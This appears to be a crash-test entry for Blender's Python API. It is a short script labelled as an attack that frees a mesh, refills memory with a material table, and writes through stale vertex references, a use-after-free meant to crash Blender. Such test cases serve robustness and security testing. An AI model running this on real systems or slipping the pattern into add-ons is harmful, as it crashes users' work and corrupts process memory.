# attack: writes to vertices of a mesh that is gone, where a table of pointers lies by now
# family: bombs
# ends: BlenderCrashed
# alone: BlenderCrashed
import bpy

mesh = bpy.data.meshes.new("gone")
mesh.vertices.add(512)
vertices = mesh.vertices[:]
paint = bpy.data.materials.new("paint")
shelf = bpy.data.meshes.new("shelf")
for _ in range(1023):
    shelf.materials.append(paint)
bpy.data.meshes.remove(mesh)
shelf.materials.append(paint)
for vertex in vertices:
    vertex.co = (1e9, 1e9, 1e9)
print([material.name for material in shelf.materials])
